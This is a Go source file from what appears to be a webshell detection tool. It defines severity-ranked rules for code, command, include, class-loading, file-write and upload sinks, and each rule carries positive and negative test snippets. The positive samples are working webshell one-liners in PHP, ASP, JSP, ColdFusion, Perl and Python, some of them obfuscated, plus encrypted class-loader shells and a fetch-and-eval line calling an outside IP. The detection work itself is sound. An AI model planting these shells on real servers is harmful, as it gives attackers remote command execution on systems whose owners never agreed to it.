package script

import (
	"strings"

	"spoor/triage"
)

const (
	webshellTechnique = "https://attack.mitre.org/techniques/T1505/003/"
	obfuscation       = "https://attack.mitre.org/techniques/T1027/"
	evalManual        = "https://www.php.net/manual/en/function.eval.php"
	inclusionCWE      = "https://cwe.mitre.org/data/definitions/98.html"
	commandCWE        = "https://cwe.mitre.org/data/definitions/78.html"
	uploadCWE         = "https://cwe.mitre.org/data/definitions/434.html"
	deserialCWE       = "https://cwe.mitre.org/data/definitions/502.html"
	variableCalls     = "https://www.php.net/manual/en/functions.variable-functions.php"
)

// packedSample is "$q = $_POST['k']; ..." deflated, an inert test of unpacking.
const packedSample = "UylUsFVQiQ/wDw6JVs9Wj7VWyExT0MgsLk4t0VAp1NRUqFZwSATyisBca4VaAA=="

// flowRules say what it means that a value of some origin reaches a sink. Of the rules of one kind the first that
// fits is taken, so the gravest stand first.
var flowRules = []Rule{
	{ID: "code-input", Level: triage.Critical, kind: kCode, needs: fromInput,
		Why: "runs what the request sends as code", Source: webshellTechnique,
		Hit: []Sample{
			{"a.php", `<?php @eval($_POST['x']); ?>`},
			{"b.php", `<?php $f = "as"."sert"; $f($_REQUEST[1]);`},
			{"c.php", `<?php function go($x) { $y = trim($x); eval($y); } go(base64_decode($_COOKIE["k"]));`},
			{"d.php", `<?php $a = str_replace("q", "", "qcrqeaqte_fuqnctqion"); $b = $a('', $_GET["c"]); $b();`},
			{"e.php", `<?php eval(gzinflate(base64_decode('` + packedSample + `')));`},
			{"f.php", `<?php preg_replace("/.*/e", $_POST["a"], "x");`},
			{"g.php", `<?php array_map("ass" . "ert", array($_POST["x"]));`},
			{"h.php", `<?php $d = file_get_contents("php://input"); for ($i=0;$i<strlen($d);$i++) { $d[$i] = $d[$i] ^ $k[$i & 15]; } eval($d);`},
			{"i.php", `<?php $s = "_" . chr(80) . "OST"; $p = $$s; eval($p["z"]);`},
			{"j.php", `<?php class C { public function __invoke($p) { eval($p . ""); } } @call_user_func(new C(), file_get_contents("php://input"));`},
			{"k.asp", `<%eval request("x")%>`},
			{"l.asp", `<% a = "ex" & "ec" : s = Request.Form("b") : ExecuteGlobal s %>`},
			{"m.aspx", `<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>`},
			{"n.cfm", `<cfset x = evaluate(form.code)>`},
			{"o.jsp", `<% new javax.script.ScriptEngineManager().getEngineByName("js").eval(request.getParameter("x")); %>`},
			{"p.php.jpg", "\xff\xd8\xff\xe0JFIF\x00<?php eval($_POST[1]);?>"},
		},
		Miss: []Sample{
			{"a.php", `<?php $smarty_code = $this->compile($file); eval('?>' . $smarty_code);`},
			{"b.php", `<?php $n = intval($_GET["n"]); eval("\$r = $n + 1;");`},
			{"c.php", `<?php // eval($_POST["x"]);
			echo "eval(\$_POST['x'])";`},
			{"d.php", `<?php usort($rows, function ($a, $b) { return strcmp($a["n"], $b["n"]); }); $x = array_map("trim", $_POST);`},
			{"e.php", `<?php $html = preg_replace("/<e>/i", "", $_POST["text"]);`},
			{"f.asp", `<% Response.Write Server.HTMLEncode(Request("q")) %>`},
		}},
	{ID: "code-remote", Level: triage.High, kind: kCode, needs: fromRemote,
		Why: "runs code that it fetches from another server", Source: "https://attack.mitre.org/techniques/T1105/",
		Hit:  []Sample{{"a.php", `<?php eval(file_get_contents("http://198.51.100.7/x.txt"));`}},
		Miss: []Sample{{"a.php", `<?php $v = file_get_contents("http://198.51.100.7/version.txt"); if ($v > 3) echo "update";`}}},
	{ID: "code-input-weak", Level: triage.Medium, Gate: triage.Low, kind: kCode, needs: fromWeak,
		Why: "runs as code what code of another file makes of the request", Source: webshellTechnique,
		Hit:  []Sample{{"a.php", `<?php eval(unlock($_POST["x"]));`}},
		Miss: []Sample{{"a.php", `<?php eval(template("page"));`}}},
	{ID: "code-packed", Level: triage.Medium, kind: kCode, needs: fromPacked,
		Why: "runs code that was packed into a constant", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php eval(base64_decode("ZWNobyAxOw=="));`}, {"b.php", `<?php $a = strrev("tressa"); $a(str_rot13("cevag 1;"));`}},
		Miss: []Sample{{"a.php", `<?php eval("echo 1;"); $img = base64_decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");`}}},
	{ID: "code-decoded", Level: triage.Medium, kind: kCode, needs: fromDecoded,
		Why: "decodes something and runs it as code", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php eval(gzinflate(base64_decode($payload)));`}, {"b.php", `<?php for ($i=0;$i<9;$i++) { $o .= chr(ord($d[$i]) ^ 7); } eval($o);`}},
		Miss: []Sample{{"a.php", `<?php $row = base64_decode($data); echo $row;`}}},
	{ID: "code-run", Level: triage.Info, kind: kCode,
		test: func(v value) bool { return !v.known },
		Why:  "can run text as code; where the text comes from is not in this file", Source: evalManual,
		Hit:  []Sample{{"a.php", `<?php eval($template);`}},
		Miss: []Sample{{"a.php", `<?php assert(true); eval("return 1;");`}}},

	{ID: "command-input", Level: triage.Critical, kind: kCommand, needs: fromInput, whole: true,
		Why: "runs what the request sends as a command", Source: webshellTechnique,
		Hit: []Sample{
			{"a.php", `<?php system($_GET["c"]);`},
			{"b.php", "<?php $c = $_REQUEST['c']; echo `$c`;"},
			{"c.jsp", `<%@ page import="java.io.*" %><% String c = request.getParameter("c"); Process p = Runtime.getRuntime().exec(c); %>`},
			{"i.jsp", `<% new ProcessBuilder(new String[]{"/bin/sh", "-c", request.getParameter("c")}).start(); %>`},
			{"d.asp", `<% Set w = Server.CreateObject("WScript.Shell") : w.Exec(Request("c")) %>`},
			{"e.cfm", `<cfexecute name="#form.n#" arguments="#form.a#" timeout="5"></cfexecute>`},
			{"f.cgi", "#!/usr/bin/perl\nuse CGI; my $q = new CGI; my $c = $q->param('c'); print `$c`;"},
			{"g.py", "import cgi, os\nform = cgi.FieldStorage()\nos.system(form.getvalue('c'))\n"},
			{"h.php", `<?php call_user_func("system", $_GET["c"]); `},
		},
		Miss: []Sample{
			{"a.php", `<?php exec("convert " . escapeshellarg($_FILES["f"]["tmp_name"]) . " out.png");`},
			{"b.php", `<?php $v = shell_exec("git --version"); echo $v . $_GET["x"];`},
			{"c.jsp", `<% String q = request.getParameter("q"); out.print(q); Runtime.getRuntime().exec("uptime"); %>`},
		}},
	{ID: "command-input-part", Level: triage.High, Gate: triage.Medium, kind: kCommand, needs: fromInput,
		Why: "puts what the request sends into a command", Source: commandCWE,
		Hit: []Sample{
			{"a.php", `<?php echo shell_exec("cmd /c " . $_POST["c"]);`},
			{"b.aspx", `<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName = "cmd.exe"; psi.Arguments = "/c " + Request["c"]; Process.Start(psi); }</script>`},
		},
		Miss: []Sample{{"a.php", `<?php system("ping -c 1 " . escapeshellarg($_GET["host"])); system("ls -" . (int)$_GET["n"]);`}}},
	{ID: "command-remote", Level: triage.High, kind: kCommand, needs: fromRemote,
		Why: "runs as a command what another server answers", Source: "https://attack.mitre.org/techniques/T1105/",
		Hit:  []Sample{{"a.php", `<?php $s = fsockopen("198.51.100.7", 443); $o = shell_exec(fread($s, 1400));`}},
		Miss: []Sample{{"a.php", `<?php $s = fsockopen("198.51.100.7", 25); fputs($s, "HELO x"); exec("uptime");`}}},
	{ID: "command-packed", Level: triage.Medium, kind: kCommand, needs: fromPacked | fromDecoded,
		Why: "runs a command that was hidden in a constant", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php system(base64_decode("bHMgLWxh"));`}},
		Miss: []Sample{{"a.php", `<?php system("id");`}}},
	{ID: "command-input-weak", Level: triage.Low, kind: kCommand, needs: fromWeak,
		Why: "runs a command made with what code of another file makes of the request", Source: commandCWE,
		Hit:  []Sample{{"a.php", `<?php exec(build_command($_GET["x"]));`}},
		Miss: []Sample{{"a.php", `<?php exec(build_command("x"));`}}},
	{ID: "command-run", Level: triage.Info, kind: kCommand,
		test: func(v value) bool { return true },
		Why:  "can run commands", Source: commandCWE,
		Hit:  []Sample{{"a.php", `<?php exec($this->convert . " a.png");`}},
		Miss: []Sample{{"a.php", `<?php $pdo->exec("DELETE FROM t"); $re->exec($x);`}}},

	{ID: "include-input", Class: triage.Traversal, Level: triage.High, Gate: triage.Medium, kind: kInclude, needs: fromInput, whole: true,
		Why: "runs the file that the request names", Source: inclusionCWE,
		Hit:  []Sample{{"a.php", `<?php include $_GET["f"];`}},
		Miss: []Sample{{"a.php", `<?php include "head.php"; include dirname(__FILE__) . "/lib.php";`}}},
	{ID: "include-upload", Level: triage.Critical, kind: kInclude, needs: fromTemp,
		Why: "runs the file that the request uploads", Source: webshellTechnique,
		Hit:  []Sample{{"a.php", `<?php include($_FILES["f"]["tmp_name"]);`}},
		Miss: []Sample{{"a.php", `<?php include "form.php"; echo $_FILES["f"]["tmp_name"];`}}},
	{ID: "include-input-part", Class: triage.Traversal, Level: triage.Medium, Gate: triage.Low, kind: kInclude, needs: fromInput,
		Why: "runs a file whose name the request has a part in", Source: inclusionCWE,
		Hit:  []Sample{{"a.php", `<?php include "pages/" . $_GET["p"] . ".php";`}},
		Miss: []Sample{{"a.php", `<?php $all = array("a" => "a.php"); include "pages/" . $all[$_GET["p"]];`}}},
	{ID: "include-remote", Level: triage.High, kind: kInclude,
		test: func(v value) bool {
			low := strings.ToLower(v.text)
			return v.known && (strings.HasPrefix(low, "http:") || strings.HasPrefix(low, "https:") || strings.HasPrefix(low, "ftp:") || strings.HasPrefix(low, "data:") || strings.HasPrefix(low, "php://input"))
		},
		Why: "runs what another server or the request answers as a file", Source: inclusionCWE,
		Hit:  []Sample{{"a.php", `<?php include "php://input";`}},
		Miss: []Sample{{"a.php", `<?php include "http.php";`}}},
	{ID: "include-static", Level: triage.High, kind: kInclude,
		test: func(v value) bool { return v.known && staticFile(v.text) },
		Why:  "runs a picture or another static file as code", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php @include "\057var\057www/img/favicon_1a.ico";`}},
		Miss: []Sample{{"a.php", `<?php include "logo.php"; readfile("logo.png");`}}},
	{ID: "include-packed", Level: triage.Medium, kind: kInclude, needs: fromPacked,
		Why: "runs a file whose name is hidden in a constant", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php include base64_decode("L3RtcC8ueC50eHQ=");`}},
		Miss: []Sample{{"a.php", `<?php include "x.txt";`}}},

	{ID: "class-input", Level: triage.Critical, kind: kClass, needs: fromInput | fromWeak,
		Why: "loads what the request sends as a class or assembly", Source: webshellTechnique,
		Hit: []Sample{
			{"a.jsp", `<%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><% javax.crypto.Cipher c = null; new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext); %>`},
			{"b.aspx", `<%@ Page Language="C#" %><% byte[] k = new byte[16]; byte[] c = Request.BinaryRead(Request.ContentLength); System.Reflection.Assembly.Load(new RijndaelManaged().CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>`},
		},
		Miss: []Sample{{"a.jsp", `<% String n = request.getParameter("n"); Object o = loader.loadBean("Cart"); out.print(n); %>`}}},
	{ID: "class-packed", Level: triage.High, kind: kClass, needs: fromPacked | fromDecoded,
		Why: "loads a class or assembly that is packed into the script", Source: obfuscation,
		Hit:  []Sample{{"a.jsp", `<% byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADQAHQ=="); defineClass(b, 0, b.length); %>`}},
		Miss: []Sample{{"a.jsp", `<% byte[] b = java.util.Base64.getDecoder().decode("yv66vgAAADQAHQ=="); out.write(b); %>`}}},

	{ID: "call-input", Level: triage.Critical, kind: kDynamic, needs: fromInput, with: fromInput,
		Why: "calls the function that the request names, with what the request sends", Source: variableCalls,
		Hit: []Sample{{"a.php", `<?php $_GET["a"]($_POST["b"]);`}, {"b.php", `<?php call_user_func($_REQUEST["f"], $_REQUEST["x"]);`},
			{"c.php", `<?php usort(...$_GET["x"]); array_filter(array($_POST["p"]), $_POST["f"]);`}},
		Miss: []Sample{{"a.php", `<?php call_user_func(array($this, "show"), $_GET["id"]); $cb = $handlers["x"]; $cb($_POST["b"]);`}}},
	{ID: "call-input-name", Level: triage.Medium, Gate: triage.Low, kind: kDynamic, needs: fromInput, whole: true,
		Why: "calls the function that the request names", Source: variableCalls,
		Hit:  []Sample{{"a.php", `<?php $f = $_GET["f"]; $f();`}},
		Miss: []Sample{{"a.php", `<?php $f = "show_" . $_GET["f"]; if (function_exists($f)) $f();`}}},
	{ID: "call-input-part", Level: triage.Info, kind: kDynamic, needs: fromInput | fromWeak,
		Why: "calls a function whose name the request has a part in, as dispatchers do", Source: variableCalls,
		Hit:  []Sample{{"a.php", `<?php $f = "show_" . $_GET["f"]; $f();`}},
		Miss: []Sample{{"a.php", `<?php $f = "show"; $f();`}}},
	{ID: "call-packed", Level: triage.Medium, kind: kDynamic, needs: fromDecoded,
		Why: "calls a function whose name it decodes", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php $f = base64_decode($names[3]); $f($x);`}},
		Miss: []Sample{{"a.php", `<?php $f = $names[3]; $f($x);`}}},
	{ID: "call-disguised", Level: triage.Medium, kind: kNone,
		Why: "calls a function that runs code or commands by a name that is put together first", Source: obfuscation,
		Hit:  []Sample{{"a.php", `<?php $a = "sys" . "tem"; $a("id");`}, {"b.php", `<?php $a = "\x70\x61\x73\x73\x74\x68\x72\x75"; $a($x);`}, {"c.php", `<?php $_ = "!" ^ "@"; $_ = ("#./|{" ^ "@[[\x19\x0f"); $b = "ev" . "al"; $m = strrev("edoc_46esab"); $c = "as" . "sert"; $c($m($y));`}},
		Miss: []Sample{{"a.php", `<?php $f = "str" . "len"; echo $f("x"); system("id");`}}},
	{ID: "member-input", Level: triage.Info, kind: kMember, needs: fromInput | fromWeak,
		Why: "calls the method or class that the request names, as dispatchers do", Source: variableCalls,
		Hit:  []Sample{{"a.php", `<?php $a = $_GET["do"]; $controller->$a();`}},
		Miss: []Sample{{"a.php", `<?php $controller->show($_GET["do"]);`}}},
	{ID: "object-input", Class: triage.RCE, Level: triage.Medium, Gate: triage.Low, kind: kObject, needs: fromInput,
		Why: "makes objects of what the request sends", Source: deserialCWE,
		Hit:  []Sample{{"a.php", `<?php $o = unserialize(base64_decode($_COOKIE["s"]));`}, {"b.jsp", `<% new java.io.ObjectInputStream(request.getInputStream()).readObject(); %>`}},
		Miss: []Sample{{"a.php", `<?php $o = unserialize(get_option("x")); $p = json_decode($_POST["p"]);`}}},

	{ID: "connect-input", Level: triage.Medium, Gate: triage.Low, kind: kConnect, needs: fromInput, whole: true,
		Why: "opens a connection to where the request says, as tunnels do", Source: "https://attack.mitre.org/techniques/T1090/",
		Hit:  []Sample{{"a.php", `<?php $s = @fsockopen($_POST["h"], $_POST["p"]); echo fread($s, 512);`}, {"b.jsp", `<% ch.connect(new java.net.InetSocketAddress(request.getHeader("T"), 80)); %>`}},
		Miss: []Sample{{"a.php", `<?php $s = fsockopen("mail.example.org", 25); fputs($s, $_POST["m"]);`}}},
	{ID: "reflect-input", Level: triage.Medium, Gate: triage.Low, kind: kReflect, needs: fromInput,
		Why: "hands what the request sends to a method that is found by its name", Source: webshellTechnique,
		Hit:  []Sample{{"a.jsp", `<% Class r = Class.forName("java.lang.Run" + "time"); r.getMethod("ex" + "ec", String.class).invoke(r.getMethod("getRuntime").invoke(null), request.getParameter("x")); %>`}},
		Miss: []Sample{{"a.jsp", `<% m.invoke(bean); out.print(request.getParameter("x")); %>`}}},

	{ID: "write-script", Level: triage.High, Gate: triage.Low, kind: kWrite, needs: 0, with: fromInput | fromDecoded | fromPacked,
		test: func(v value) bool { return scriptPath(v) },
		Why:  "writes what the request sends, or what it decodes, into a script", Source: webshellTechnique,
		Hit:  []Sample{{"a.php", `<?php file_put_contents("images/t.php", $_POST["d"]);`}, {"b.php", `<?php $h = fopen("a.php", "w"); fwrite($h, base64_decode("PD9waHAgZWNobyAxOw=="));`}},
		Miss: []Sample{{"a.php", `<?php file_put_contents("cache/list.php", "<?php return " . var_export($rows, true) . ";"); file_put_contents("log.txt", $_POST["d"]);`}}},
	{ID: "write-input", Level: triage.High, Gate: triage.Low, kind: kWrite, needs: fromInput, with: fromInput,
		Why: "writes what the request sends to the file that the request names", Source: uploadCWE,
		Hit: []Sample{
			{"a.php", `<?php file_put_contents($_POST["f"], $_POST["d"]);`},
			{"b.php", `<?php $h = fopen($_GET["f"], "w"); fwrite($h, $_GET["d"]);`},
			{"c.jsp", `<% (new java.io.FileOutputStream(application.getRealPath("/") + request.getParameter("f"))).write(request.getParameter("t").getBytes()); %>`},
			{"d.aspx", `<%@ Page Language="C#" %><% System.IO.File.WriteAllText(Request["f"], Request["t"]); %>`},
		},
		Miss: []Sample{
			{"a.php", `<?php file_put_contents("data/visits.log", $_SERVER["HTTP_USER_AGENT"], FILE_APPEND);`},
			{"b.php", `<?php $f = fopen("a.txt", "w"); fwrite($f, $_POST["t"]);`},
		}},
	{ID: "write-remote", Level: triage.Low, kind: kWrite, with: fromRemote,
		Why: "writes what another server answers to a file, as updaters and droppers do", Source: "https://attack.mitre.org/techniques/T1105/",
		Hit:  []Sample{{"a.php", `<?php file_put_contents($target, file_get_contents("http://198.51.100.7/a.txt"));`}},
		Miss: []Sample{{"a.php", `<?php file_put_contents($target, "x");`}}},
	{ID: "upload-named", Class: triage.Upload, Level: triage.Medium, Gate: triage.Low, kind: kUpload, with: fromUpload | fromInput,
		Why: "stores an uploaded file under a name that the client chooses", Source: uploadCWE,
		Hit:  []Sample{{"a.php", `<?php move_uploaded_file($_FILES["f"]["tmp_name"], "./" . $_FILES["f"]["name"]);`}},
		Miss: []Sample{{"a.php", `<?php move_uploaded_file($_FILES["f"]["tmp_name"], "up/" . md5(uniqid()) . ".jpg");`}}},
	{ID: "upload-stored", Class: triage.Upload, Level: triage.Info, kind: kUpload, needs: fromTemp | fromUpload | fromInput,
		Why: "stores an uploaded file", Source: uploadCWE,
		Hit:  []Sample{{"a.php", `<?php move_uploaded_file($_FILES["f"]["tmp_name"], "up/" . md5(uniqid()) . ".jpg");`}},
		Miss: []Sample{{"a.php", `<?php copy("a.txt", "b.txt");`}}},
}

// scriptPath reports whether the path of a write, or of an open file, is that of a script.
func scriptPath(v value) bool {
	p := v.text
	if rest, ok := strings.CutPrefix(v.class, "file:"); ok {
		p = rest
	}
	return triage.IsScript(strings.TrimSpace(p)) && p != ""
}
